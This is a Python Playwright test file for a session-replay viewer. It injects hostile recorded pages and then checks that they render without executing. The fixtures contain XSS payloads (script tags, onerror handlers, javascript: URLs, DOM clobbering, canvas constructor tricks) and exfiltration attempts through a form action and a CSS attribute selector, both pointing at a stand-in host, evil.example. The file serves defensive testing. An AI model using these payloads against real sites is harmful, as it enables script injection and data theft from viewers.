"""Recorded pages are hostile: nothing of them may run, in the replay or around it."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from playwright.sync_api import Page, Request, expect

from tests.ui.conftest import Open
from tests.ui.rich import rich
from tests.ui.worlds import SHOP_ID, Json, World, walk

pytestmark = pytest.mark.e2e

MARKUP = "<img src=x onerror=\"window.top.pwned='text'\"><script>window.top.pwned='tag'</script>"


def element(ident: int, tag: str, attributes: Json, *children: Json) -> Json:
    """A node of a snapshot."""
    return {"type": 2, "id": ident, "tagName": tag, "attributes": attributes,
            "childNodes": list(children)}  # fmt: skip


def text(ident: int, content: str, **more: Any) -> Json:
    """A text node of a snapshot."""
    return {"type": 3, "id": ident, "textContent": content} | more


FRAME_SCRIPT = "<script>window.top.pwned = 'nested'</script>"
EVIL = "https://evil.example"

ATTACKS = [
    element(900, "script", {}, text(901, "window.top.pwned = 'script'")),
    element(902, "img", {"src": "x", "onerror": "window.top.pwned = 'onerror'"}),
    element(903, "svg", {"onload": "window.top.pwned = 'svg'"},
            element(930, "script", {}, text(931, "window.top.pwned = 'svg script'"), )),
    element(904, "iframe", {"srcdoc": FRAME_SCRIPT, "sandbox": "allow-scripts allow-same-origin"}),
    element(905, "iframe", {"src": "javascript:window.top.pwned='frame'"}),
    element(906, "a", {"id": "trap", "href": "javascript:window.top.pwned='href'"},
            text(907, "click me")),
    element(908, "meta", {"http-equiv": "refresh",
                          "content": "0;url=javascript:window.top.pwned=1"}),
    element(932, "meta", {"http-equiv": "refresh", "content": f"0;url={EVIL}/refreshed"}),
    element(909, "object", {"data": "data:text/html,<script>window.top.pwned='object'</script>"}),
    element(933, "embed", {"src": f"{EVIL}/embedded.svg", "type": "image/svg+xml"}),
    element(910, "form", {"action": f"{EVIL}/leak", "id": "form"},
            element(911, "input", {"name": "secret", "value": "1", "autofocus": "",
                                   "onfocus": "window.top.pwned = 'focus'"}),
            element(934, "button", {"id": "send", "formaction": "javascript:window.top.pwned=2"})),
    element(912, "base", {"href": EVIL}),
    element(946, "meta", {"name": "referrer", "content": "unsafe-url"}),
    element(947, "img", {"src": f"{EVIL}/picture", "referrerpolicy": "unsafe-url"}),
    element(948, "link", {"rel": "preconnect", "href": EVIL}),
    element(935, "a", {"id": "top", "href": f"{EVIL}/top", "target": "_top"}, text(936, "top")),
    element(937, "a", {"id": "blank", "href": f"{EVIL}/new", "target": "_blank"},
            text(938, "new")),
    element(939, "details", {"open": "", "ontoggle": "window.top.pwned = 'toggle'"}),
    element(940, "video", {"src": "x", "onerror": "window.top.pwned = 'video'", "autoplay": ""}),
    element(941, "style", {}, text(942, f"""
        @import url('{EVIL}/imported.css');
        * {{ animation: x 1ms }} input[value^='1'] {{ background: url('{EVIL}/value?1') }}
        :root, body, .player, .topbar {{ display: block !important; outline: 9px solid red }}
    """, isStyle=True)),
    element(943, "link", {"rel": "stylesheet", "href": f"{EVIL}/linked.css"}),
    element(944, "canvas", {"id": "canvas", "rr_dataURL": "data:text/html,<script>1</script>"}),
    element(945, "div", {"onanimationstart": "window.top.pwned = 'animation'",
                         "style": f"background: url({EVIL}/inline)"}),
]  # fmt: skip


def body_of(snapshot: Json) -> Json:
    """The body in a full snapshot."""
    html = next(node for node in snapshot["data"]["node"]["childNodes"] if node["type"] == 2)
    found: Json = next(node for node in html["childNodes"] if node.get("tagName") == "body")
    return found


def insert(world: World, *nodes: Json) -> None:
    """Puts nodes into the first snapshot."""
    first = next(iter(world.sessions[0].tabs.values()))[0]
    snapshot = next(event for event in first.events if event["type"] == 2)
    body_of(snapshot)["childNodes"].extend(json.loads(json.dumps(nodes)))


def happen(world: World, *datas: Json) -> None:
    """Lets increments of the recording follow the first snapshot, a second after it."""
    first = next(iter(world.sessions[0].tabs.values()))[0]
    at_ms = first.events[1]["timestamp"] + 1000
    later = [event for event in first.events if event["timestamp"] > at_ms]
    events = [{"type": 3, "timestamp": at_ms, "data": data} for data in datas]
    first.events[len(first.events) - len(later) :] = [*events, *later]


def poison(world: World) -> None:
    """Put attacks into the first snapshot, and markup wherever a text is shown."""
    session = world.sessions[0]
    insert(world, *ATTACKS)
    session.row["user"] = {"id": MARKUP, "name": MARKUP, "email": MARKUP}
    session.row["first_url"] = "javascript:window.pwned='url'"
    for row in session.events:
        row |= {"title": MARKUP, "service": MARKUP}
        row["attributes"] = dict.fromkeys(row["attributes"], MARKUP) | {MARKUP: MARKUP}
        if row["name"] == "browser.state":
            row["attributes"]["browser.state.changes"] = json.dumps({MARKUP: MARKUP, "a": None})
    for trace in session.traces.values():
        for span in walk(trace["spans"]):
            _poison_span(span)
        for log in trace["logs"]:
            log |= {"body": MARKUP, "service": MARKUP, "severity": MARKUP}


def _poison_span(span: Json) -> None:
    span |= {"name": MARKUP, "service": MARKUP, "status_message": MARKUP, "kind": MARKUP}
    span["attributes"] = span["resource"] = {MARKUP: MARKUP, "url.full": MARKUP}
    event = {"t_ms": span["start_ms"], "name": MARKUP, "attributes": {MARKUP: MARKUP}}
    thrown = {"exception.type": MARKUP, "exception.stacktrace": f"{MARKUP}\nCaused by: {MARKUP}"}
    span["events"] = [event, event | {"name": "exception", "attributes": thrown}]
    span["links"] = [{"trace_id": MARKUP, "span_id": MARKUP, "attributes": {MARKUP: MARKUP}}]


@pytest.fixture
def world() -> World:
    """The shop's visit with all that panels can show; a test poisons it."""
    return World([rich()])


@pytest.fixture
def outside(page: Page) -> list[Request]:
    """Requests that left for elsewhere; a new window, a dialog or a navigation fails the test."""
    leaving: list[Request] = []
    page.route(f"{EVIL}/**", lambda route: route.fulfill(status=200, body=""))
    page.on("request", lambda request: leaving.append(request) if EVIL in request.url else None)
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    page.on("popup", lambda popup: pytest.fail(f"a window: {popup.url}"))
    return leaving


WHERE = """() => [...document.querySelectorAll('iframe')].flatMap((frame) =>
  [frame, ...(frame.contentDocument?.querySelectorAll('iframe') ?? [])].map((each) => {
    try { return each.contentWindow.location.href } catch { return 'elsewhere' }
  }))"""


def assert_unharmed(page: Page) -> None:
    assert page.evaluate("window.pwned") is None


def assert_silent(requests: list[Request]) -> None:
    """The servers of a recorded page do not learn who watches, nor where."""
    headers = [request.all_headers() for request in requests]
    assert not any("cookie" in each for each in headers)
    assert [each["referer"] for each in headers if "referer" in each] == []


def assert_at_home(page: Page) -> None:
    """No frame was led elsewhere; what the replayer writes has the page's own address."""
    own = page.url.split("?")[0]
    places = page.evaluate(WHERE)
    assert [place for place in places if not place.startswith(("about:", own))] == []


CLICK = """(ids) => {
  const shown = window.__player.document();
  for (const id of ids) shown.getElementById(id).click();
}"""


def test_a_hostile_snapshot_shows_but_does_not_run(
    visit: Open, world: World, outside: list[Request]
) -> None:
    poison(world)
    page = visit(f"/sessions/{SHOP_ID}?t=300")
    frame = page.locator("[data-testid=replay-frame] .surface:not(.behind) iframe")
    assert frame.get_attribute("sandbox") == "allow-same-origin"
    inner = page.frame_locator("[data-testid=replay-frame] .surface:not(.behind) iframe")
    expect(inner.get_by_text("click me")).to_be_attached()
    address = page.url
    page.evaluate(CLICK, ["trap", "top", "blank", "send"])
    page.evaluate("window.__player.document().getElementById('form').submit()")
    page.evaluate("window.__player.seek(600)")
    assert_unharmed(page)
    assert page.url.split("?")[0] == address.split("?")[0]
    wrapper = page.locator("[data-testid=replay-frame] > .surface > .replayer-wrapper")
    expect(wrapper).to_have_count(1)
    assert_at_home(page)
    # What a page refers to may be fetched, without saying who looks at it; the rest may not.
    left = {request.url.removeprefix(EVIL).split("?")[0] for request in outside}
    assert left <= {"/imported.css", "/linked.css", "/value", "/inline", "/picture"}
    assert_silent(outside)


def test_a_page_s_style_stays_within_its_frame(visit: Open, world: World) -> None:
    insert(world, *ATTACKS)
    page = visit(f"/sessions/{SHOP_ID}?t=300")
    outline = "(selector) => getComputedStyle(document.querySelector(selector)).outlineWidth"
    for selector in ("body", ".player", ".topbar"):
        assert page.evaluate(outline, selector) != "9px"


ADDED = [
    element(950, "script", {}, text(951, "window.top.pwned = 'added script'")),
    element(952, "iframe", {"srcdoc": FRAME_SCRIPT}),
    element(953, "img", {"src": "x", "onerror": "window.top.pwned = 'added onerror'"}),
    element(954, "canvas", {"width": "10", "height": "10"}),
    element(955, "p", {"id": "arrived"}),
]
LATER: list[Json] = [
    *({"source": 0, "removes": [], "texts": [], "attributes": [],
       "adds": [{"parentId": 900, "nextId": None, "node": node}]} for node in ADDED),
    {"source": 0, "removes": [], "adds": [], "texts": [],
     "attributes": [
         {"id": 955, "attributes": {"onclick": "window.top.pwned = 'changed'", "id": "changed",
                                    "style": {"background": f"url({EVIL}/styled)"}}},
         {"id": 952, "attributes": {"src": "javascript:window.top.pwned='changed src'",
                                    "sandbox": "allow-scripts", "srcdoc": FRAME_SCRIPT}},
         {"id": 953, "attributes": {"src": "javascript:1", "onerror": "window.top.pwned=3"}},
     ]},
    {"source": 8, "id": 941, "adds": [{"rule": f"@import url('{EVIL}/rule.css');", "index": 0}]},
    {"source": 9, "id": 954, "type": 0, "commands": [
        {"property": "constructor", "args": ["window.top.pwned = 'canvas'"]},
        {"property": "fillStyle", "args": [{"rr_type": "Function", "args": ["top.pwned = 4"]}],
         "setter": True},
        {"property": "drawImage", "args": [
            {"rr_type": "HTMLImageElement", "src": f"{EVIL}/canvas.svg"}, 0, 0]},
    ]},
    {"source": 9, "id": 954, "type": 1, "property": "constructor.constructor",
     "args": ["top.pwned = 5"]},
    {"source": 7, "type": 0, "id": 940, "currentTime": 1, "volume": 2, "muted": "<b>"},
    {"source": 10, "family": "x", "fontSource": f"url({EVIL}/font)", "buffer": False,
     "descriptors": {"x": "y"}},
]  # fmt: skip


def test_what_a_recording_adds_later_does_not_run_either(
    visit: Open, world: World, outside: list[Request]
) -> None:
    insert(world, element(900, "div", {}), *(each for each in ATTACKS if each["id"] in (940, 941)))
    happen(world, *LATER)
    page = visit(f"/sessions/{SHOP_ID}?t=0")
    page.evaluate("window.__player.seek(2500)")
    inner = page.frame_locator("[data-testid=replay-frame] .surface:not(.behind) iframe")
    expect(inner.locator("#changed")).to_be_attached()
    page.evaluate(CLICK, ["changed"])
    page.evaluate("window.__player.play()")
    expect(page.get_by_test_id("player")).to_have_attribute("data-phase", "ready")
    page.evaluate("window.__player.seek(2600)")
    assert_unharmed(page)
    assert_at_home(page)
    # Canvases are not drawn by what a recording says: nothing is fetched for them.
    assert not any("/canvas" in request.url for request in outside)
    assert_silent(outside)


def test_the_picture_at_the_pointer_is_as_closed_as_the_stage(visit: Open, world: World) -> None:
    poison(world)
    page = visit(f"/sessions/{SHOP_ID}?t=15000")
    track = page.get_by_test_id("timeline-track").bounding_box()
    assert track
    page.mouse.move(track["x"] + 30, track["y"] + 10)
    frame = page.locator("[data-testid=moment-preview] iframe")
    expect(page.get_by_test_id("moment-preview")).to_be_visible()
    assert frame.get_attribute("sandbox") == "allow-same-origin"
    inner = page.frame_locator("[data-testid=moment-preview] iframe")
    expect(inner.locator("#trap")).to_have_text("click me")
    assert_unharmed(page)


CLOBBERING = [
    element(960, "img", {"name": "elementFromPoint", "alt": ""}),
    element(961, "img", {"name": "defaultView", "alt": ""}),
    element(962, "form", {"id": "clobbered", "class": "<img src=x onerror=top.pwned=6>",
                          "style": "position: fixed; z-index: 9; inset: 0; background: white"},
            element(963, "input", {"name": "localName", "value": "a"}),
            element(964, "input", {"name": "parentNode", "value": "b"}),
            element(965, "input", {"name": "getAttribute", "value": "c"}),
            element(966, "input", {"name": "textContent", "value": "d"}),
            element(967, "input", {"name": "children", "value": "e"}),
            text(968, MARKUP)),
]  # fmt: skip


def test_inspection_is_not_led_astray_by_names(visit: Open, world: World) -> None:
    insert(world, *CLOBBERING)
    page = visit(f"/sessions/{SHOP_ID}?t=300")
    page.get_by_role("button", name="Inspect the page").click()
    device = page.get_by_test_id("replay-frame").bounding_box()
    assert device
    page.mouse.move(device["x"] + device["width"] / 2, device["y"] + device["height"] * 0.7)
    label = page.get_by_test_id("inspect-label")
    expect(label).to_contain_text("form#clobbered")
    expect(label).to_contain_text("<script>window.top.pwned")
    for key, expected in (
        ("ArrowDown", "input"),
        ("ArrowUp", "form#clobbered"),
        ("ArrowUp", "body"),
    ):
        page.keyboard.press(key)
        expect(label).to_contain_text(expected)
    assert page.locator("#app img").count() == 0
    assert_unharmed(page)


def test_names_and_addresses_around_the_frame_stay_text(visit: Open, world: World) -> None:
    poison(world)
    for parts in world.sessions[0].tabs.values():
        for part in parts:
            for event in part.events:
                if event["type"] == 4:
                    event["data"]["href"] = f"javascript:{MARKUP}"
    page = visit(f"/sessions/{SHOP_ID}?t=300")
    expect(page.locator(".address-url")).to_contain_text("<script>")
    expect(page.locator(".tab-chips")).to_contain_text("<script>")
    expect(page).to_have_title(re.compile(re.escape(MARKUP)))
    track = page.get_by_test_id("timeline-track").bounding_box()
    lane = page.locator(".lane-action").bounding_box()
    assert track
    assert lane
    click = next(row for row in world.sessions[0].events if row["kind"] == "click")
    share = click["offset_ms"] / world.sessions[0].row["duration_ms"]
    page.mouse.move(track["x"] + (track["width"] - 12) * share, lane["y"] + lane["height"] / 2)
    expect(page.get_by_role("tooltip")).to_contain_text("<script>")
    assert page.locator("#app img").count() == 0
    assert page.locator("a[href^='javascript:']").count() == 0
    assert_unharmed(page)


ROWS = {
    "events": "event-row", "network": "request-row", "console": "console-row",
    "errors": "error-row", "state": "state-row", "logs": "session-log-row", "traces": None,
    "info": None,
}  # fmt: skip
"""The panels, and the rows to click where they have details."""


@pytest.mark.parametrize("panel", ROWS)
def test_markup_in_what_was_recorded_stays_text(visit: Open, world: World, panel: str) -> None:
    poison(world)
    page = visit(f"/sessions/{SHOP_ID}?panel={panel}")
    expect(page.get_by_test_id(f"panel-{panel}")).to_contain_text("onerror")
    row = ROWS[panel]
    if row:
        page.get_by_test_id(row).last.click()
        expect(page.locator("[data-testid=detail]:visible")).to_contain_text("onerror")
    assert page.locator("a[href^='javascript:']").count() == 0
    page.get_by_test_id("timeline").hover()
    assert page.locator("#app img").count() == 0
    assert_unharmed(page)


def test_markup_in_spans_under_way_stays_text(visit: Open, world: World) -> None:
    poison(world)
    moment = next(iter(world.sessions[0].traces.values()))["sessions"][0]["offset_ms"]
    page = visit(f"/sessions/{SHOP_ID}?panel=traces&t={moment + 1:.0f}")
    page.get_by_role("button", name="Follow the playhead").click()
    expect(page.get_by_test_id("under-way")).to_contain_text("onerror")
    assert page.locator("#app img").count() == 0
    assert_unharmed(page)


def test_markup_in_a_trace_stays_text(visit: Open, world: World) -> None:
    poison(world)
    trace_id = next(iter(world.sessions[0].traces))
    page = visit(f"/traces/{trace_id}")
    expect(page.get_by_test_id("waterfall")).to_contain_text("onerror")
    page.get_by_test_id("waterfall-span").first.click()
    expect(page.get_by_test_id("span-detail")).to_contain_text("onerror")
    assert page.locator("#app img").count() == 0
    assert_unharmed(page)


def test_the_list_shows_markup_as_text_and_links_nowhere_else(visit: Open, world: World) -> None:
    poison(world)
    page = visit("/sessions")
    expect(page.get_by_test_id("session-row")).to_contain_text("onerror")
    assert page.locator("a[href^='javascript:']").count() == 0
    assert_unharmed(page)


BROKEN: list[Json] = [
    {"type": 3, "data": None},
    {"type": 3, "data": {}},
    {"type": 99, "data": {"source": 0}},
    {"type": "3", "data": {"source": 0}},
    {"type": 3, "data": {"source": 0}},
    {"type": 3, "data": {"source": 0, "adds": [None], "removes": 7, "texts": {}}},
    {"type": 3, "data": {"source": 0, "texts": [], "attributes": [], "removes": [], "adds": [
        {"parentId": 1, "nextId": None, "node": {"type": 2, "id": 950, "tagName": "1 <x",
                                                 "attributes": {"<": "1"}, "childNodes": []}}]}},
    {"type": 3, "data": {"source": 1, "positions": [None, {"x": "a"}]}},
    {"type": 3, "data": {"source": 2, "type": "x", "id": -5}},
    {"type": 3, "data": {"source": 8, "id": 1, "adds": [{"rule": "}{", "index": [1, "x"]}]}},
]  # fmt: skip


@pytest.mark.parametrize("event", BROKEN, ids=lambda event: json.dumps(event)[:60])
def test_an_event_that_makes_no_sense_does_not_stop_the_replay(
    visit: Open, world: World, event: Json
) -> None:
    part = next(iter(world.sessions[0].tabs.values()))[0]
    middle = len(part.events) // 2
    part.events.insert(middle, event | {"timestamp": part.events[middle]["timestamp"]})
    page = visit(f"/sessions/{SHOP_ID}")
    page.evaluate("window.__player.seek(3000)")
    expect(page.get_by_test_id("player")).to_have_attribute("data-phase", "ready")
    inner = page.frame_locator("[data-testid=replay-frame] .surface:not(.behind) iframe")
    expect(inner.locator("body")).not_to_be_empty()
